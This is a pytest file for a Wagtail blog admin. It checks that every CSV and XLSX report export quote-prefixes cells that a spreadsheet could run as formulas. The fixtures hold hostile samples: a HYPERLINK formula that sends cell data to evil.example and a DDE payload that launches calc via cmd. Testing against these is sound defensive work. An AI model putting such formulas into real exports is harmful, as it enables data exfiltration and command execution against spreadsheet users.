"""Exports: words that look like formulas are words, in every file that leaves the admin."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import Workflow

from blog.desk import exporting
from blog.models import OutboxEntry, PostPage
from blog.moments import today
from review.links import make_review_link
from search.models import NotedQuestion
from tests.factories import make_author, make_post

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
HOSTILE = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "＝1+1", " =1+1"]
STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", " =")

ADDRESSES = [
    "/admin/reports/posts/",
    "/admin/reports/locked/",
    "/admin/reports/workflow/",
    "/admin/reports/workflow_tasks/",
    "/admin/reports/site-history/",
    "/admin/reports/aging-pages/",
    "/admin/reports/deliveries/",
    "/admin/reports/review-links/",
    "/admin/reports/searches/",
    "/admin/redirects/",
]


@pytest.fixture
def hostile_admin(admin, admin_user, engineers):
    """A publication in which whatever people may name is a formula."""
    admin_user.first_name = FORMULA
    admin_user.save()
    author = make_author(FORMULA)
    for number, title in enumerate(HOSTILE):
        make_post(engineers, title, slug=f"hostile-{number}", authors=[author], owner=admin_user)
    post = PostPage.objects.get(slug="hostile-0")
    PostPage.objects.filter(pk=post.pk).update(
        locked=True, locked_at=timezone.now(), locked_by=admin_user
    )
    Workflow.objects.get(active=True).start(PostPage.objects.get(slug="hostile-1"), admin_user)
    Redirect.objects.create(old_path=FORMULA, redirect_link=FORMULA)
    OutboxEntry.objects.create(kind="purge", key=FORMULA, what=FORMULA, problem=FORMULA)
    NotedQuestion.objects.create(words=FORMULA, day=today(), askings=2, results=0)
    make_review_link(post, label=FORMULA, made_by=admin_user)
    return admin


def exported(client, address: str, kind: str) -> bytes:
    answer = client.get(f"{address}?export={kind}")
    assert answer.status_code == 200
    return b"".join(answer.streaming_content)


@pytest.mark.parametrize("address", ADDRESSES)
def test_no_cell_of_a_csv_is_run(hostile_admin, address):
    text = exported(hostile_admin, address, "csv").decode()

    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert [cell for cell in cells if cell.startswith(STARTS)] == []
    assert any(cell.startswith("'") for cell in cells)


@pytest.mark.parametrize("address", ADDRESSES)
def test_no_cell_of_an_xlsx_is_run(hostile_admin, address):
    file = io.BytesIO(exported(hostile_admin, address, "xlsx"))

    cells = [cell for row in load_workbook(file).active.iter_rows() for cell in row]
    words = [cell for cell in cells if isinstance(cell.value, str)]
    assert {cell.data_type for cell in words} == {"s"}
    hostile = [cell for cell in words if cell.value.startswith(STARTS)]
    assert hostile
    assert all(cell.quotePrefix for cell in hostile)


def test_the_words_are_all_there(hostile_admin):
    text = exported(hostile_admin, "/admin/reports/posts/", "csv").decode()
    file = io.BytesIO(exported(hostile_admin, "/admin/reports/posts/", "xlsx"))

    titles = [row["Title"] for row in csv.DictReader(io.StringIO(text, newline=""))]
    assert titles == [f"'{title}" for title in HOSTILE]
    sheet = load_workbook(file).active
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == HOSTILE


def test_a_title_that_xlsx_cannot_write_does_not_end_the_export(admin, engineers):
    post = make_post(engineers, "Bell")
    PostPage.objects.filter(pk=post.pk).update(title="A\x07bell")

    file = io.BytesIO(exported(admin, "/admin/reports/posts/", "xlsx"))

    assert load_workbook(file).active["A2"].value == "A bell"


@pytest.mark.parametrize(
    "value",
    [
        *[-5, -5.5, Decimal("-0.1"), None, True, date(2026, 1, 1)],
        datetime(2026, 1, 1, tzinfo=UTC),
        *["", "-5", "+1,000.50", "-3 %"[:2], "Words", "a=b", "'=1", "1-2", "–5", "\u00a0x"],
    ],
)
def test_what_no_spreadsheet_runs_stays_as_it_is(value):
    assert exporting.as_text(value) == value


@pytest.mark.parametrize("value", [*HOSTILE, "\rx", "\nx", "-5+1", "--5", "+", "=", "@x"])
def test_what_a_spreadsheet_may_run_is_marked(value):
    assert exporting.as_text(value) == f"'{value}"


def every_export(view=SpreadsheetExportMixin):
    for found in view.__subclasses__():
        yield found
        yield from every_export(found)


def test_no_export_writes_its_cells_by_itself():
    names = ("preprocess_field_value", "generate_xlsx_row", "write_csv_row", "stream_csv")
    own = {(view, name) for view in every_export() for name in names if name in vars(view)}

    assert own == set()
